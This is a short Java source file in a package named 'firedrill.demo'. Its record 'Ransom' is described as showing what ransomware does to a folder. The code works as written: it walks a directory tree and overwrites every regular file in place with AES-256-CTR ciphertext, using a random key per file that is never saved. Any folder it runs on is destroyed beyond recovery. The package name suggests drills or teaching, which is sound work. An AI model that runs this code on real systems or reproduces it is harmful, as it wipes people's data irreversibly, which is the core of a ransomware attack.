package io.firedrill.demo;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.util.List;
import java.util.stream.Stream;
import javax.crypto.Cipher;
import javax.crypto.KeyGenerator;

/** What ransomware does to a folder. */
record Ransom(Path folder) {
    /** AES in counter mode, in place, with a key that nobody keeps. Returns what was done, in words. */
    String encrypt() {
        try (Stream<Path> all = Files.walk(folder)) {
            Cipher cipher = Cipher.getInstance("AES/CTR/NoPadding");
            KeyGenerator keys = KeyGenerator.getInstance("AES");
            keys.init(256);
            List<Path> files = all.filter(Files::isRegularFile).filter(file -> !Files.isSymbolicLink(file)).toList();
            for (Path file : files) {
                cipher.init(Cipher.ENCRYPT_MODE, keys.generateKey());
                Files.write(file, cipher.doFinal(Files.readAllBytes(file)));
            }
            return "# somebody encrypts the %,d files below %s in place (AES-256) and throws the keys away".formatted(files.size(), folder);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("Every JDK has AES.", e);
        }
    }
}
